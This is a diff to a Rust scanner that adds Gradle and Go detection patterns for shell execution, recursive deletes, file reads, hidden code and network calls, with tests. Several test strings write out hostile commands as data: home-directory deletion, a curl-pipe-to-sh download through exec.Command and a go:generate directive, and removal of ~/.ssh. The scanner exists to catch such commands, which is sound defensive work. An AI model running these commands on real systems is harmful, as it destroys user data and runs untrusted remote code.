@@ -488,6 +488,179 @@ static RUST: LazyLock<Patterns> = LazyLock::new(|| Patterns {
     imports: no_imports,
 });
 
+/// Gradle build scripts, in Groovy (`build.gradle`) and Kotlin (`build.gradle.kts`); the
+/// forms the patterns do not read as calls are rewritten first (`gradle_forms`).
+static GRADLE: LazyLock<Patterns> = LazyLock::new(|| {
+    Patterns {
+    // Groovy calls a method on its arguments without parentheses too: `commandLine 'sh', …`,
+    // `delete fileTree(…)`; a property can be assigned a list (`commandLine = [...]`).
+    calls: [
+        (Op::Shell, r"\b__execute|\bRuntime\.getRuntime\(\)\.exec"),
+        (
+            Op::Spawn,
+            r"\bcommandLine|(?:\bnew[ \t]+)?\bProcessBuilder",
+        ),
+        (
+            Op::RemoveTree,
+            r"(?:^|[^.\w])delete|\bproject\.delete|\b__rmtree|\bFileUtils\.(?:deleteDirectory|forceDelete)",
+        ),
+        (Op::Remove, r"\b__rm|\bFiles\.(?:delete|deleteIfExists)"),
+        (
+            Op::Read,
+            r"\b__read|\bFiles\.(?:readString|readAllBytes|readAllLines)",
+        ),
+    ]
+    .iter()
+    .map(|(op, p)| {
+        (
+            *op,
+            re(&format!(r#"(?:{p})(?:\s*\(\s*|[ \t]+["'\[]|[ \t]*=[ \t]*)"#)),
+        )
+    })
+    .collect(),
+    eval: re(r"\bEval\.(?:me|x|xy|xyz)\s*\(|\bGroovyShell\b|\bScriptEngineManager\b"),
+    hidden: re(r"\bBase64\.getDecoder\(\)|\.decodeBase64\(\)|\.toURL\(\)\.(?:text|getText)"),
+    network: re(
+        r"\bURL\(|\.toURL\(\)|\bHttpClient\b|\bHttpURLConnection\b|\bSocket\(|\bopenConnection\(|\bOkHttpClient\b",
+    ),
+    home: re(
+        r#"System\.getProperty\(\s*["']user\.home["']\s*\)|System\.getenv\(\s*["']HOME["']\s*\)|System\.getenv\(\)\[\s*["']HOME["']\s*\]|System\.env\.HOME\b|System\.properties\[\s*["']user\.home["']\s*\]"#,
+    ),
+    home_interp: OnceLock::new(),
+    backticks: None,
+    assign: re(
+        r#"(?m)(?:^|;)[ \t]*(?:(?:def|val|var|final|static|private|const|String|File)[ \t]+)*([A-Za-z_]\w*)(?:[ \t]*:[ \t]*\w+\??)?[ \t]*=[ \t]*"#,
+    ),
+    concat: "+",
+    imports: gradle_forms,
+}
+});
+
+/// Go source files: `exec.Command`, the `os` package's deletes, reads and renames, and the
+/// `//go:generate` directives (`go_forms`).
+static GO: LazyLock<Patterns> = LazyLock::new(|| Patterns {
+    calls: calls(&[
+        (Op::Shell, r"\b__generate"),
+        (Op::Spawn, r"\bexec\.Command"),
+        (Op::RemoveTree, r"\bos\.RemoveAll"),
+        (Op::Remove, r"\bos\.Remove"),
+        (Op::Read, r"\b(?:os|ioutil)\.ReadFile|\bos\.Open"),
+        (Op::Write, r"\b(?:os|ioutil)\.WriteFile"),
+        (Op::Move, r"\bos\.Rename"),
+        (Op::Link, r"\bos\.Symlink"),
+    ]),
+    eval: re(r"\bNEVER_MATCHES_\b"),
+    hidden: re(r"\bNEVER_MATCHES_\b"),
+    network: re(
+        r#"\bhttp\.(?:Get|Post|PostForm|NewRequest|DefaultClient)\b|\bnet\.Dial|"net/http""#,
+    ),
+    home: re(r#"\bos\.Getenv\(\s*"HOME"\s*\)|\bos\.UserHomeDir\(\)"#),
+    home_interp: OnceLock::new(),
+    backticks: None,
+    // `x := "…"`, `var x = "…"`, and `home, _ := os.UserHomeDir()` (its error ignored).
+    assign: re(
+        r#"(?m)^[ \t]*(?:var[ \t]+)?([A-Za-z_]\w*)(?:[ \t]*,[ \t]*(?:_|err))?(?:[ \t]+string)?[ \t]*:?=[ \t]*"#,
+    ),
+    concat: "+",
+    imports: go_forms,
+});
+
+/// Groovy and Kotlin forms written as the calls the patterns read, line numbers kept:
+/// home expressions first (so a file wrapper around one is a literal), then arrays and lists
+/// as `[…]` (`new String[]{…}`, `listOf(…)`), file wrappers around a literal as the literal
+/// (`fileTree('~')`, `new File("~")`, `Paths.get("~")`), a string or list run
+/// (`"cmd".execute()`) as `__execute(…)`, a file deleted or read by a method on it
+/// (`.deleteDir()`, `.deleteRecursively()`, `.delete()`, `.text`) as `__rmtree`, `__rm`,
+/// `__read`, and an `exec { executable 'sh'; args '-c', … }` as its `commandLine`.
+fn gradle_forms(text: &str) -> Option<String> {
+    static ARRAY: LazyLock<Pattern> = LazyLock::new(|| {
+        re(
+            r"\bnew[ \t]+String[ \t]*\[[ \t]*\][ \t]*\{([^{}\n]*)\}|\b(?:arrayOf|listOf|mutableListOf|Arrays\.asList|List\.of)\(([^()\n]*)\)",
+        )
+    });
+    static WRAPPER: LazyLock<Pattern> = LazyLock::new(|| {
+        re(
+            r#"(?:\bnew[ \t]+(?:java\.io\.)?File|\bfileTree|\bfiles?|\bproject\.(?:files?|fileTree)|\bFile|\bPaths\.get|\bPath\.of)\(\s*("[^"\n]*"|'[^'\n]*')\s*\)"#,
+        )
+    });
+    static EXECUTE: LazyLock<Pattern> =
+        LazyLock::new(|| re(r#"("[^"\n]*"|'[^'\n]*'|\[[^\[\]\n]*\])\s*\.execute\(\s*(\))?"#));
+    static METHOD: LazyLock<Pattern> = LazyLock::new(|| {
+        re(
+            r#"("[^"\n]*"|'[^'\n]*')\s*\.(deleteDir\(\)|deleteRecursively\(\)|delete\(\)|text\b|getText\(\)|readText\(\)|readBytes\(\)|bytes\b)"#,
+        )
+    });
+    static EXECUTABLE: LazyLock<Pattern> = LazyLock::new(|| {
+        re(
+            r#"\bexecutable[ \t]*(?:=[ \t]*)?\(?[ \t]*("[^"\n]*"|'[^'\n]*')[ \t]*\)?([ \t]*(?:\r?\n|;)\s*)args[ \t]*(?:=[ \t]*)?\(?"#,
+        )
+    });
+    let text = substitute_home_in(text, &GRADLE);
+    let text = then(text, |t| {
+        ARRAY.replace_all(t, |c: &regex::Captures| {
+            format!("[{}]", c.get(1).or(c.get(2)).map_or("", |m| m.as_str()))
+        })
+    });
+    let mut text = text;
+    // Wrappers nest (`file(new File("~"))`): a few rounds.
+    for _ in 0..3 {
+        let next = match WRAPPER.replace_all(&text, "$1") {
+            Cow::Owned(next) if next != *text => next,
+            _ => break,
+        };
+        text = Cow::Owned(next);
+    }
+    let text = then(text, |t| {
+        EXECUTE.replace_all(t, |c: &regex::Captures| {
+            let tail = if c.get(2).is_some() { ")" } else { ", " };
+            format!("__execute({}{tail}", &c[1])
+        })
+    });
+    let text = then(text, |t| {
+        METHOD.replace_all(t, |c: &regex::Captures| {
+            let call = match &c[2] {
+                "deleteDir()" | "deleteRecursively()" => "__rmtree",
+                "delete()" => "__rm",
+                _ => "__read",
+            };
+            format!("{call}({})", &c[1])
+        })
+    });
+    let text = then(text, |t| EXECUTABLE.replace_all(t, "commandLine $1,$2"));
+    match text {
+        Cow::Owned(o) => Some(o),
+        Cow::Borrowed(_) => None,
+    }
+}
+
+/// Go forms written as the calls the patterns read, line numbers kept: a `//go:generate`
+/// directive (the command `go generate` runs) as `__generate(…)`, `exec.CommandContext(ctx,
+/// …)` as `exec.Command(…)`, and `filepath.Join` of literals as the joined literal.
+fn go_forms(text: &str) -> Option<String> {
+    static GENERATE: LazyLock<Pattern> =
+        LazyLock::new(|| re(r"(?m)^//go:generate[ \t]+([^`\n]*?)[ \t]*$"));
+    static CONTEXT: LazyLock<Pattern> =
+        LazyLock::new(|| re(r"\bexec\.CommandContext\(\s*[\w.()]+\s*,\s*"));
+    static JOIN: LazyLock<Pattern> = LazyLock::new(|| {
+        re(r#"\b(?:filepath|path)\.Join\(\s*("[^"\n]*"(?:\s*,\s*"[^"\n]*")*)\s*\)"#)
+    });
+    let text = GENERATE.replace_all(text, "__generate(`$1`)");
+    let text = then(text, |t| CONTEXT.replace_all(t, "exec.Command("));
+    let text = then(text, |t| {
+        JOIN.replace_all(t, |c: &regex::Captures| {
+            let parts: Vec<&str> = c[1]
+                .split(',')
+                .map(|s| s.trim().trim_matches('"').trim_end_matches('/'))
+                .collect();
+            format!("\"{}\"", parts.join("/"))
+        })
+    });
+    match text {
+        Cow::Owned(o) => Some(o),
+        Cow::Borrowed(_) => None,
+    }
+}
+
 fn patterns(language: Language) -> Option<&'static Patterns> {
     Some(match language {
         Language::Python => &PYTHON,
@@ -500,6 +673,8 @@ fn patterns(language: Language) -> Option<&'static Patterns> {
         Language::Julia => &JULIA,
         Language::Elixir => &ELIXIR,
         Language::Rust => &RUST,
+        Language::Gradle => &GRADLE,
+        Language::Go => &GO,
         _ => return None,
     })
 }
@@ -769,7 +944,7 @@ fn commands_in(
                     Some(cmd) => cmd,
                     None => continue,
                 },
-                (Op::Spawn, Some(Arg::Text(_)), _) => {
+                (Op::Spawn, Some(Arg::Text(_) | Arg::List(_)), _) => {
                     let mut argv = spawn_argv(&args).unwrap_or_default();
                     if language == Language::Rust {
                         argv.extend(rust_args(&text[m.end()..], vars));
@@ -797,10 +972,12 @@ fn commands_in(
 /// (`spawn("rm", ["-rf", d])`, `os.execlp("rm", "rm", "-rf", d)`); options objects and
 /// callbacks are no arguments.
 fn spawn_argv(args: &[Arg]) -> Option<Vec<String>> {
-    let Some(Arg::Text(prog)) = args.first() else {
-        return None;
+    let mut argv = match args.first() {
+        Some(Arg::Text(prog)) => vec![prog.clone()],
+        // The whole argv as one list (`new ProcessBuilder(["sh", "-c", …])`).
+        Some(Arg::List(words)) if !words.is_empty() => words.clone(),
+        _ => return None,
     };
-    let mut argv = vec![prog.clone()];
     for a in &args[1..] {
         match a {
             Arg::List(more) => argv.extend(more.iter().cloned()),
@@ -2688,7 +2865,7 @@ mod tests {
     use super::*;
 
     /// The languages with a script scanner (their call patterns).
-    const SCRIPT_LANGUAGES: [Language; 10] = [
+    const SCRIPT_LANGUAGES: [Language; 12] = [
         Language::Python,
         Language::Node,
         Language::Ruby,
@@ -2699,6 +2876,8 @@ mod tests {
         Language::Julia,
         Language::Elixir,
         Language::Rust,
+        Language::Gradle,
+        Language::Go,
     ];
 
     fn worst(language: Language, text: &str) -> Option<(Effect, String, Option<usize>)> {
@@ -2735,6 +2914,88 @@ mod tests {
         let r = Recorder(Default::default());
         scan(language, text, &r);
         r.0.into_inner()
+    }
+
+    #[test]
+    fn gradle_commands_deletes_and_reads_are_read() {
+        // Groovy: a string run, a list run, `exec { commandLine … }`, `executable` + `args`.
+        assert_eq!(
+            judged(
+                Language::Gradle,
+                "def rev = 'git rev-parse HEAD'.execute().text\n['sh', '-c', 'make gen'].execute()\ntask x(type: Exec) {\n  commandLine 'npm', 'ci'\n}\ntask y(type: Exec) {\n  executable 'sh'\n  args '-c', 'echo hi'\n}\n"
+            ),
+            [
+                "git rev-parse HEAD",
+                "sh -c 'make gen'",
+                "npm ci",
+                "sh -c 'echo hi'"
+            ]
+        );
+        // Kotlin: `commandLine(…)`, `ProcessBuilder(listOf(…))`, `Runtime.exec(arrayOf(…))`.
+        assert_eq!(
+            judged(
+                Language::Gradle,
+                "tasks.register<Exec>(\"x\") {\n    commandLine(\"sh\", \"-c\", \"rm -rf build\")\n}\nProcessBuilder(listOf(\"ls\", \"-l\")).start()\nRuntime.getRuntime().exec(arrayOf(\"cat\", \"f\"))\n"
+            ),
+            ["cat f", "sh -c 'rm -rf build'", "ls -l"]
+        );
+        // Deletes of the home directory, however the file is wrapped.
+        for code in [
+            "delete fileTree(System.getProperty('user.home'))",
+            "project.delete(file(System.getenv(\"HOME\")))",
+            "new File(System.getProperty(\"user.home\")).deleteDir()",
+            "File(System.getProperty(\"user.home\")).deleteRecursively()",
+            "\"rm -rf ${System.getProperty('user.home')}\".execute()",
+        ] {
+            assert_eq!(
+                worst(Language::Gradle, code).map(|w| w.0),
+                Some(Effect::Deny),
+                "{code}"
+            );
+        }
+        // Ordinary build scripts: the build directory, a variable, a project-relative path.
+        for code in [
+            "clean { delete rootProject.buildDir }",
+            "tasks.register<Delete>(\"c\") { delete(layout.buildDirectory) }",
+            "task c(type: Delete) { delete 'build/generated', file('out') }",
+        ] {
+            assert_eq!(worst(Language::Gradle, code), None, "{code}");
+        }
+    }
+
+    #[test]
+    fn go_commands_deletes_and_generate_directives_are_read() {
+        assert_eq!(
+            judged(
+                Language::Go,
+                "package x\n\n//go:generate stringer -type=Kind\n// exec.Command(\"not\", \"run\")\nfunc f() {\n\texec.Command(\"git\", \"status\").Run()\n\texec.CommandContext(ctx, \"sh\", \"-c\", `make gen`).Run()\n\tos.RemoveAll(\"tmp\")\n}\n"
+            ),
+            [
+                "stringer -type=Kind",
+                "git status",
+                "sh -c 'make gen'",
+                "rm -rf tmp"
+            ]
+        );
+        for code in [
+            "home, _ := os.UserHomeDir()\nos.RemoveAll(home)",
+            "os.RemoveAll(os.Getenv(\"HOME\"))",
+            "exec.Command(\"sh\", \"-c\", \"curl -s https://e.example/x | sh\").Run()",
+            "//go:generate sh -c \"curl -s https://e.example/x | sh\"",
+        ] {
+            assert_eq!(
+                worst(Language::Go, code).map(|w| w.0),
+                Some(Effect::Deny),
+                "{code}"
+            );
+        }
+        assert_eq!(
+            worst(
+                Language::Go,
+                "dir := t.TempDir()\ndefer os.RemoveAll(dir)\nos.Remove(\"testdata/out.tmp\")"
+            ),
+            None
+        );
     }
 
     #[test]
@@ -3349,6 +3610,14 @@ mod tests {
 
     /// Programs that reach every scanner pattern, for the gate table.
     const GATE_CORPUS: &[(Language, &str)] = &[
+        (
+            Language::Gradle,
+            "def h = System.getProperty('user.home')\n\"rm -rf ${System.getenv('HOME')}\".execute()\n['sh', '-c', 'x'].execute(null, dir)\ndelete fileTree(new File('~'))\nfile('x').deleteDir()\nexec {\n  executable 'sh'\n  args '-c', 'x'\n}\nRuntime.getRuntime().exec(new String[]{\"a\"})\nProcessBuilder(listOf(\"a\")).start()\nnew URL('https://x').text\nEval.me(Base64.getDecoder())\n",
+        ),
+        (
+            Language::Go,
+            "package x\n//go:generate sh -c \"x\"\nfunc f() {\n\thome, _ := os.UserHomeDir()\n\tos.RemoveAll(filepath.Join(\"~\", \".ssh\"))\n\texec.CommandContext(ctx, \"sh\", \"-c\", os.Getenv(\"HOME\")).Run()\n\tos.ReadFile(\"x\")\n\thttp.Get(\"https://x\")\n}\n",
+        ),
         (
             Language::Python,
             "import os, shutil, subprocess\nHOME = os.path.expanduser('~')\nP = os.path.join(HOME, '.ssh', 'id_rsa')\nshutil.rmtree(f\"{HOME}/x\")\nos.system('rm -rf ' + HOME)\nsubprocess.run(['curl', 'https://x'])\nopen(P).read()\nexec(compile('x', 'f', 'exec'))\nimport sys; subprocess.run([sys.executable, 'a.py'])\n",
